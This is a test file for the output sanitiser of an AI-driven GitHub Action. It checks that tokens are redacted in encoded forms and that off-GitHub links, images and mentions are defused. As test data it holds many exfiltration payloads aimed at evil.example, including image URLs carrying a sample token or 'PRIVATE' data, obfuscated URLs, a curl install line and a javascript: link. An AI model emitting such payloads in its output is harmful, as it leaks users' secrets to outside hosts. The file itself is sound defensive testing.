/**
 * What Recall posts that the model wrote: credentials in their encoded forms, and links and images
 * that would carry data to another host (RFC-005). The e2e test in security-posting.test.ts posts
 * through the bundled action.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { credentialValues, plainValue } from '../../src/agent/credentials.js';
import { redactCredentials } from '../../src/secrets/forms.js';
import { neutralizeLinks } from '../../src/github/outbound.js';

const TOKEN = 'ghs_16C7e42F292c6912E7710c838347Ae178B4a';

describe('redaction', () => {
  it.each([
    ['as it is', TOKEN],
    ['base64', Buffer.from(TOKEN).toString('base64')],
    ['base64url', Buffer.from(`??${TOKEN}`).toString('base64url')],
    ['hex', Buffer.from(TOKEN).toString('hex')],
    ['HEX', Buffer.from(TOKEN).toString('hex').toUpperCase()],
    ['percent-encoded', encodeURIComponent(`${TOKEN}/`).replace('/', '%2F')],
    ['spaced out', [...TOKEN].join(' ')],
    ['dashed', [...TOKEN].join('-')],
    ["git's extraheader (base64 of x-access-token:<token>)", Buffer.from(`x-access-token:${TOKEN}`).toString('base64')],
    ['base64 at another offset', Buffer.from(`a${TOKEN}`).toString('base64')],
    ['base64 at a third offset', Buffer.from(`ab${TOKEN}`).toString('base64')],
  ])('takes the credential out %s', (_how, form) => {
    const out = redactCredentials(`before ${form} after`, [TOKEN]);
    expect(out).toContain('[redacted]');
    expect(out).not.toContain(TOKEN);
    // The middle of the encoded form, which only the token's bytes make, is gone.
    const middle = Math.floor(form.length / 2);
    expect(out).not.toContain(form.slice(middle - 5, middle + 5));
  });

  it('a key with zero-width characters or an HTML comment inside is found too', async () => {
    const { outbound } = await import('../../src/github/outbound.js');
    // Nested so that one removal joins a new comment, or an invisible character inside the opener (attacker review, stop 42).
    for (const hidden of [`${TOKEN.slice(0, 10)}\u200b${TOKEN.slice(10)}`, `${TOKEN.slice(0, 10)}<!-- -->${TOKEN.slice(10)}`, `${TOKEN.slice(0, 10)}<!-<!---->- x -->${TOKEN.slice(10)}`, `${TOKEN.slice(0, 10)}<!\u200b-- x -->${TOKEN.slice(10)}`]) {
      expect(outbound(`key: ${hidden}`, [TOKEN])).toBe('key: [redacted]');
    }
  });

  it('makes every @-mention of a person or a team code, so a post notifies no one; e-mail addresses, code and links stay (stop 43)', async () => {
    const { outbound } = await import('../../src/github/outbound.js');
    expect(outbound("cc @alice, (@my-org/security-team) and @bob's fix", [])).toBe("cc `@alice`, (`@my-org/security-team`) and `@bob`'s fix");
    expect(outbound('@start of a line\n@Next-Line', [])).toBe('`@start` of a line\n`@Next-Line`');
    for (const kept of ['mail first.last@example.org', 'in `@code` and\n```\n@fenced\n```', 'see https://github.com/@alice/x', '[@alice](https://github.com/alice)', '@-x']) expect(outbound(kept, [])).toBe(kept);
  });

  it("what GitHub's parser reads otherwise than the patterns used to (a backtick inside a tag, an HTML block, a table's pipes) renders no image, link or mention (attacker reviews, stop 43)", async () => {
    const { outbound } = await import('../../src/github/outbound.js');
    const { micromark } = await import('micromark');
    const { gfm, gfmHtml } = await import('micromark-extension-gfm');
    const { HtmlRenderer, Parser } = await import('commonmark');
    // Two renderers: micromark with GFM, and commonmark.js (the spec's reference), which read raw HTML apart in places.
    const render = (md: string) => `${micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] })}\n${new HtmlRenderer().render(new Parser().parse(md))}`;
    const attacks = [
      // The second review: a stray quote the check's patterns lost a tag at, a value micromark ends at '/', a tab in a host, a mention behind a tag in an attribute.
      '<div>\n`<img src=https://evil.example/x.png?d=PRIVATE"x>`\n</div>',
      '<span title="`"><img src=//evil.example/PRIVATE/p.png><span title="`">',
      '<div>\n`<img src="https://github.com&#9;@evil.example/p.png">`\n</div>',
      '<span title="`<code>">@octo-org/everyone<span title="</code>`">',
      'Fixed. `<img src="https://evil.example/x.png?d=PRIVATE">` and `<a href="https://evil.example">x</a>`',
      'See <span title="`"></span><img src="https://evil.example/i.png?d=DATA"><span title="`"></span> done.',
      '<div>`<img src="https://evil.example/a.png?d=DATA">`</div>',
      'Text <kbd title="`">x</kbd> [label](https://evil.example/phish) <kbd title="`">y</kbd>',
      '| a | b |\n| - | - |\n| `x | <img src=https://evil.example/t.png> | y` |',
      '<p title="`">@octo-org/everyone</p> and `<b title="`">`',
    ];
    for (const attack of attacks) {
      const html = render(outbound(attack, []));
      expect(html, attack).not.toMatch(/<img\b|<a href="(?!https:\/\/github\.com\/)/);
      // A mention in code notifies no one.
      expect(html.replace(/<pre>[\s\S]*?<\/pre>|<code>[^<]*<\/code>/g, ''), attack).not.toContain('@octo-org');
    }
  });

  it("what cmark-gfm, GitHub's parser, reads apart from the specification goes out as text (third review, stop 43)", async () => {
    const { outbound } = await import('../../src/github/outbound.js');
    const { HtmlRenderer, Parser } = await import('commonmark');
    const render = (md: string) => new HtmlRenderer().render(new Parser().parse(md));
    // cmark's search for a closing backtick run remembers where it failed and then misses `a`'s
    // successor: a span the specification (and micromark) closes is text to GitHub. A backtick left
    // as text is the sign, whatever follows.
    for (const answer of ['Use `` to quote; e.g. `a` and `![i](https://evil.example/i.png)`', 'Run `` `x` `@octocat` `http://evil.example/y`', 'Ask `` `x` then see https://evil.example/p']) {
      expect(outbound(answer, []), answer).toMatch(/^Recall shows this answer as plain text/);
    }
    // A heading ends the paragraph a code span was taken to cross; <noscript> no longer hides what follows from the check.
    const heading = outbound('<noscript>\n\nsee `x\n# ![i](https://evil.example/i.png) and [a\nb](//evil.example) `y\n', []);
    expect(render(heading)).not.toMatch(/<img\b|<a href="\/\/evil/);
    // The split itself ends the paragraph at the heading: no code span crosses it.
    const { splitCode } = await import('../../src/github/markdown-code.js');
    expect(splitCode('see `x\n# ![i](https://evil.example/i.png) `y\n> `a\n- b`').filter((p) => p.isCode)).toEqual([]);
    const quoted = outbound('Done <noscript> `x\n> ![i](https://evil.example/i.png) `', []);
    expect(render(quoted)).not.toMatch(/<img\b/);
    // A bare URL runs on through a no-break space to GitHub's autolinker: its host is the URL parser's, evil.example.
    expect(outbound('See http://github.com\u00a0@%65vil.example/login for details', [])).toBe('See `http://github.com\u00a0@%65vil.example/login` for details');
    expect(outbound('See www.github.com\u3000@%65vil.example for details', [])).toBe('See `www.github.com\u3000@%65vil.example` for details');
  });

  it('an answer using every construct Markdown and GitHub offer, nothing off GitHub, is posted as written', async () => {
    const { outbound } = await import('../../src/github/outbound.js');
    const answer = [
      'Fixed with `code`, see [the PR](https://github.com/o/r/pull/1) and [a file](src/a.ts); mail me@example.com.',
      '',
      '| a | b |',
      '|---|:-:|',
      '| 1 | `x\\|y` |',
      '',
      '- [ ] a task',
      '- [x] a done one',
      '',
      'A note[^1].',
      '',
      '[^1]: the note',
      '',
      '<details><summary>More</summary>',
      '',
      '```html',
      '<img src="https://evil.example/x.png"> @someone',
      '```',
      '',
      '</details>',
      '',
      '~~old~~ **bold** _it_ <kbd>Ctrl</kbd><br> <sub>x</sub>',
      '',
      '# A heading',
      '',
      '> a quote',
      '',
      '1. one',
      '',
      '---',
      '',
      '![screenshot](https://github.com/o/r/raw/main/a.png) www.github.com/o/r',
    ].join('\n');
    expect(outbound(answer, [])).toBe(answer);
  });

  it('leaves no HTML comment that removals joined: a planted delivery marker does not survive, and deep nesting is made visible', async () => {
    const { outbound } = await import('../../src/github/outbound.js');
    const out = outbound('hidden <!-<!---->- recall:delivery=comment-1 --> text', []);
    expect(out).not.toContain('<!--');
    expect(out).not.toContain('recall:delivery');
    const deep = `${'<!-'.repeat(20)}${'-->-'.repeat(20)} recall:delivery=x -->`;
    expect(outbound(deep, [])).not.toMatch(/<!--/);
  });

  it("takes a shell's working directories for the paths they are, though PWD is named like a password", () => {
    // A local run started from a shell has PWD (the checkout): redacted, it broke every session in memory.
    const env = { PWD: '/home/ada/src/webapp', OLDPWD: '/home/ada/src', SMTP_PWD: 'mail-secret-123', DB_PASSWORD: 'db-secret-456' };
    expect(credentialValues(env).sort()).toEqual(['db-secret-456', 'mail-secret-123']);
  });

  it("never takes for a secret what is none whatever its name (issue 18): the runner's step state, paths, common words", () => {
    const env = {
      // The post step's hand-over from main: `memory-key` reads as KEY, and the key is named in the manifest it saves.
      'STATE_memory-key': 'recall-v1-2001-1-20261125T232010Z',
      'STATE_working-comment': '{"id":1234567890}',
      GOOGLE_APPLICATION_CREDENTIALS: '/home/runner/work/_temp/gcp-creds.json',
      SIGNING_KEY_FILE: 'C:\\keys\\release.jks',
      SSH_AUTH_SOCK: '/run/user/1001/ssh-agent.sock',
      DB_PASSWORD: 'password',
      FEATURE_AUTH: 'disabled',
      API_TOKEN: 'tok-real-0123456789',
    };
    expect(credentialValues(env)).toEqual(['tok-real-0123456789']);
    expect(plainValue('SMTP_PWD', 'mail-secret-123')).toBe(false);
    expect(plainValue('PWD', 'anything-at-all')).toBe(true);
    expect(plainValue('state_memory-key', 'x')).toBe(true);
    expect(plainValue('WEBHOOK_URL', 'https://hooks.slack.com/services/T0/B0/abc')).toBe(false);
  });

  it("takes none of Recall's own inputs for a secret but github-token and memory-signing-key, as the runner passes them", () => {
    // Every input action.yml declares, with a long value, in the variable the runner sets for it.
    const declared = fs.readFileSync(path.join(__dirname, '..', '..', 'action.yml'), 'utf8').split(/^outputs:/m)[0]!;
    const names = [...declared.matchAll(/^ {2}([a-z][a-z-]*):$/gm)].map((m) => m[1]!);
    expect(names).toContain('memory-key-prefix');
    const env = Object.fromEntries(names.map((n) => [`INPUT_${n.toUpperCase()}`, `value-of-${n}-0123456789`]));
    // memory-key-prefix reads as KEY: taken for a secret, the memory key in the manifest made every save fail.
    expect(credentialValues(env).sort()).toEqual(['value-of-github-token-0123456789', 'value-of-memory-signing-key-0123456789']);
  });

  it('leaves ordinary text alone', () => {
    expect(redactCredentials('The fix is in src/auth.ts line 12.', [TOKEN])).toBe('The fix is in src/auth.ts line 12.');
  });
});

describe('links and images in what is posted', () => {
  const gh = 'https://github.com';
  it('an image on another host becomes text: GitHub would fetch it server-side', () => {
    const out = neutralizeLinks(`Done. ![status](https://evil.example/p.png?d=${TOKEN.slice(0, 10)})`, gh);
    expect(out).toBe('Done. status (image removed: evil.example)');
  });

  it('reference images, HTML media, protocol-relative and entity-spelled URLs do not load either', () => {
    for (const attack of [
      '![x][r]\n\n[r]: https://evil.example/a.png',
      '<img src="https://evil.example/a.png">',
      '<picture><source srcset="https://evil.example/a.png"></picture>',
      '![x](//evil.example/a.png)',
      '<img src="&#104;ttps://evil.example/a.png">',
      '[click](javascript:alert(1))',
    ]) {
      const out = neutralizeLinks(attack, gh);
      expect(out, attack).not.toMatch(/!\[[^\]]*\]\((?!\s)|<img|<source|\]\(\/\/|\]: https|&#104;|\]\(javascript/i);
    }
  });

  it('links elsewhere become code, readable and not clickable; GitHub links and code blocks stay', () => {
    const text = [
      'See [the docs](https://nodejs.org/api/fs.html) and https://evil.example/?q=1 and <https://evil.example/x>.',
      'The PR: https://github.com/acme/app/pull/3 and [issue](https://github.com/acme/app/issues/1), [file](src/a.ts).',
      '![shot](https://user-images.githubusercontent.com/1/x.png)',
      '```sh\ncurl https://evil.example/install.sh\n```',
      'Run `curl https://evil.example` here.',
    ].join('\n');
    const out = neutralizeLinks(text, gh);
    expect(out).toContain('the docs (`https://nodejs.org/api/fs.html`)');
    expect(out).toContain('`https://evil.example/?q=1`');
    expect(out).toContain('`https://evil.example/x`');
    expect(out).toContain('https://github.com/acme/app/pull/3 and [issue](https://github.com/acme/app/issues/1), [file](src/a.ts)');
    expect(out).toContain('![shot](https://user-images.githubusercontent.com/1/x.png)');
    expect(out).toContain('```sh\ncurl https://evil.example/install.sh\n```');
    expect(out).toContain('Run `curl https://evil.example` here.');
  });

  it('text that only looks like code is neutralized: a span across a blank line, an escaped backtick, an entity-spelled scheme', () => {
    for (const attack of ['a `x\n\n![i](https://evil.example/p.png?d=1)\n\ny`', '\\` ![i](https://evil.example/p.png) `', '[x](https&#58;//evil.example/a)', '[x](https&colon;//evil.example/a)']) {
      const out = neutralizeLinks(attack, gh);
      expect(out, attack).not.toMatch(/!\[i\]\(https|\]\(https(&#58;|&colon;)/);
    }
  });

  it('on GitHub Enterprise, its own host keeps its links', () => {
    expect(neutralizeLinks('[x](https://ghe.acme.internal/o/r/pull/1)', 'https://ghe.acme.internal')).toBe('[x](https://ghe.acme.internal/o/r/pull/1)');
  });
});

describe('what stays a link, rule by rule', () => {
  const gh = 'https://github.com';
  const evilImage = '![i](https://evil.example/p.png)';
  const removed = 'i (image removed: evil.example)';

  it.each([
    // Hosts: GitHub's stay, any other becomes code.
    ['a subdomain of github.com stays', '[docs](https://docs.github.com/en/actions)', '[docs](https://docs.github.com/en/actions)'],
    ['githubusercontent.com stays', '[raw](https://githubusercontent.com/x)', '[raw](https://githubusercontent.com/x)'],
    ["a host with the root's trailing dot is the same host", '[x](https://github.com./o/r)', '[x](https://github.com./o/r)'],
    ['a user name before the host does not change it', '[x](https://someone@github.com/o/r)', '[x](https://someone@github.com/o/r)'],
    ['...nor a user name and password', '[x](https://someone:pw@github.com/o/r)', '[x](https://someone:pw@github.com/o/r)'],
    ['github.com before an @ is a user name: the host is evil.example', '[x](https://github.com@evil.example/a)', 'x (`https://github.com@evil.example/a`)'],
    ['github.com:password@ is a user name too', '[x](https://github.com:x@evil.example/a)', 'x (`https://github.com:x@evil.example/a`)'],
    ['a protocol-relative link goes to another host', '[x](//evil.example/a)', 'x (`//evil.example/a`)'],
    ['a bare www. address on another host becomes code', 'see www.evil.example/a', 'see `www.evil.example/a`'],
    ["a bare www. address on GitHub's host stays", 'see www.github.com/o/r', 'see www.github.com/o/r'],
    ['a backtick in a URL cannot close the code it becomes', '[x](https://evil.example/a`b)', "x (`https://evil.example/a'b`)"],
    // Relative links stay: they lead into the repository.
    ['a path from the root stays', '[file](/o/r/blob/main/a.ts)', '[file](/o/r/blob/main/a.ts)'],
    ['two slashes inside a relative path are not a host', '[x](docs//guide.md)', '[x](docs//guide.md)'],
    ['a colon after a path is not a scheme', '[line](src/a.ts:12)', '[line](src/a.ts:12)'],
    ['www. inside a relative path is not a host', '[x](docs/www.example.md)', '[x](docs/www.example.md)'],
    // Entities, decoded as GitHub decodes them before the host is judged.
    ['&sol;&sol; spells a protocol-relative URL', '[x](&sol;&sol;evil.example/a)', 'x (`&sol;&sol;evil.example/a`)'],
    ['&quest; ends the host', '[x](https://evil.example&quest;.github.com/)', 'x (`https://evil.example&quest;.github.com/`)'],
    ['&num; ends the host', '[x](https://evil.example&num;.github.com/)', 'x (`https://evil.example&num;.github.com/`)'],
    ['&period; is a dot: github&period;com is GitHub', '[x](https://github&period;com/o/r)', '[x](https://github&period;com/o/r)'],
    ['&amp; is an ampersand, which no GitHub host has', '[x](https://github.com&amp;/x)', 'x (`https://github.com&amp;/x`)'],
    ['&equals; is an equals sign, which no GitHub host has', '[x](https://github.com&equals;/x)', 'x (`https://github.com&equals;/x`)'],
    ['hex entities, lower case', '[x](&#x2f;&#x2f;evil.example/a)', 'x (`&#x2f;&#x2f;evil.example/a`)'],
    ['hex entities, upper case', '[x](&#X2F;&#X2F;evil.example/a)', 'x (`&#X2F;&#X2F;evil.example/a`)'],
    ['an entity without its semicolon (browsers read those in HTML)', '[x](https&#58//evil.example/a)', 'x (`https&#58//evil.example/a`)'],
    // Decoded without throwing; a host no URL parser takes is no host on GitHub (a browser goes nowhere with it).
    ['the last code point, U+10FFFF, is decoded', '[x](https://a&#x10FFFF;.github.com/)', 'x (`https://a&#x10FFFF;.github.com/`)'],
    ['a number past the last code point is left as written, and does not throw', '[x](https://a&#x110000;.github.com/)', 'x (`https://a&#x110000;.github.com/`)'],
    ['...in a bare URL too', 'see https://evil.example/&#1114112;', 'see `https://evil.example/&#1114112;`'],
    ['a space spelled before the scheme does not hide it', '[x](&#32;https://evil.example/a)', 'x (`&#32;https://evil.example/a`)'],
    // Backslashes count as slashes (a browser reads them so), and a browser skips every slash
    // before a host. Markdown's escapes make `\/` a slash: the last two lead to another host.
    ['a backslash is a slash', String.raw`[x](\\evil.example/a)`, String.raw`x (` + '`' + String.raw`\\evil.example/a` + '`)'],
    ['...however many there are', String.raw`[x](\\\\evil.example/a)`, String.raw`x (` + '`' + String.raw`\\\\evil.example/a` + '`)'],
    ['an escaped // is a protocol-relative link to another host', String.raw`[x](\/\/evil.example/a)`, String.raw`x (` + '`' + String.raw`\/\/evil.example/a` + '`)'],
    ['so is a slash and an escaped one', String.raw`[x](/\/evil.example/a)`, String.raw`x (` + '`' + String.raw`/\/evil.example/a` + '`)'],
    // Images.
    ['an image with no alt text is named', '![](https://evil.example/p.png)', 'image (image removed: evil.example)'],
    ['an image without a host (data:) goes', '![x](data:image/png;base64,AAAA)', 'x (image removed: not on GitHub)'],
    ['a reference-style image is never rendered', '![x][r]', String.raw`!\[x][r]`],
    // HTML and entities in prose.
    ['HTML that loads nothing stays', '<details><summary>Log</summary>text</details>', '<details><summary>Log</summary>text</details>'],
    ['a media tag is shown, not rendered, and its URL becomes code', '<img src="https://evil.example/a.png"></a>', '&lt;img src="`https://evil.example/a.png`">&lt;/a>'],
    ['an entity is shown as written, so it spells no URL', 'a &#58; b', 'a &amp;#58; b'],
    // Reference definitions.
    // (The URL is then code twice over: ``url`` is a code span too.)
    ['a definition pointing elsewhere is no longer a definition', '[logo]: https://evil.example/l.png', String.raw`\[logo\]: ` + '``https://evil.example/l.png``'],
    ['...indented, without a space, in angle brackets, with a title', '   [logo]:<https://evil.example/l.png> "t"', String.raw`   \[logo\]:` + '``https://evil.example/l.png`` "t"'],
    ["a definition on GitHub's host stays", '[logo]: https://github.com/o/r/raw/main/l.png', '[logo]: https://github.com/o/r/raw/main/l.png'],
    ['text that only looks like a definition keeps its brackets', 'see [a]: https://evil.example', 'see [a]: `https://evil.example`'],
    // Code: left as written; only what GitHub renders as code counts as code.
    ['prose before a code span is neutralized', `${evilImage} then \`code\``, `${removed} then \`code\``],
    ['a fenced block at the start, with a blank line inside, is left as written', `\`\`\`\na\n\n${evilImage}\n\`\`\``, `\`\`\`\na\n\n${evilImage}\n\`\`\``],
    ['an unclosed fence runs to the end of the text, as GitHub renders it', `x\n\`\`\`\n${evilImage}`, `x\n\`\`\`\n${evilImage}`],
    ['a fence ends at its closing line', `\`\`\`\ncode\n\`\`\`\n${evilImage}`, `\`\`\`\ncode\n\`\`\`\n${removed}`],
    ['a longer closing fence closes', `\`\`\`\ncode\n\`\`\`\`\n${evilImage}`, `\`\`\`\ncode\n\`\`\`\`\n${removed}`],
    ['a closing fence with spaces after it closes', `\`\`\`\ncode\n\`\`\`  \n${evilImage}`, `\`\`\`\ncode\n\`\`\`  \n${removed}`],
    ['an indented closing fence closes', `\`\`\`\ncode\n  \`\`\`\n${evilImage}`, `\`\`\`\ncode\n  \`\`\`\n${removed}`],
    ['a line of one or two tildes opens no block', `~\n${evilImage}\n~~`, `~\n${removed}\n~~`],
    ['a span opened by two backticks holds a single one', `\`\`a \` ${evilImage}\`\``, `\`\`a \` ${evilImage}\`\``],
    ['a span does not cross a line of spaces', `a \`x\n   \nsee ${evilImage}\ny\``, `a \`x\n   \nsee ${removed}\ny\``],
  ])('%s', (_rule, text, expected) => {
    expect(neutralizeLinks(text, gh)).toBe(expected);
  });

  it("on GitHub Enterprise github.com's links stay too; a server URL without a host counts as github.com", () => {
    expect(neutralizeLinks('[x](https://github.com/o/r)', 'https://ghe.acme.internal')).toBe('[x](https://github.com/o/r)');
    expect(neutralizeLinks('[x](https://github.com/o/r) [y](https://evil.example/)', 'not a url')).toBe('[x](https://github.com/o/r) y (`https://evil.example/`)');
    expect(neutralizeLinks('[z](https://./x)', 'not a url')).toBe('z (`https://./x`)'); // a host of nothing is not the server's
  });
});
